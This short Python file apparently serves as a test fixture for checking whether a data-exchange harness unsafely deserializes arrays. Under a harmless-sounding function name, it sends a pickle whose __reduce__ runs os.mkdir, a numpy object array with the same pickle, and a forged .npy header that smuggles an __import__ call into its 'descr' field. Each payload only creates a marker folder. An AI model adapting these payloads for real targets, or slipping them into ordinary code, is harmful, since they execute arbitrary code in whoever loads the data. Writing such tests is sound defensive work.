# Sends an array whose bytes are a pickle that makes a folder when it is loaded.
import io
import os
import pickle
import struct

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.mkdir, ("@OUTSIDE@/unpickled",)


def send(blob, body=b'{"value": {"t": "array", "b": 0}, "pickle": {"t": "scalar", "b": 0}}'):
    os.write(3, struct.pack("<4sII", b"AXW1", len(body), 1) + body + struct.pack("<Q", len(blob)) + blob)


def angular_frequencies(d_model, base=10000.0):
    file = io.BytesIO()
    np.save(file, np.array([Bomb()], dtype=object), allow_pickle=True)
    send(file.getvalue())
    send(pickle.dumps(Bomb()))
    send(b"\x93NUMPY\x01\x00\x46\x00{'descr': __import__('os').mkdir('@OUTSIDE@/evaluated'), 'shape': ()}\n")
    return np.zeros(0)
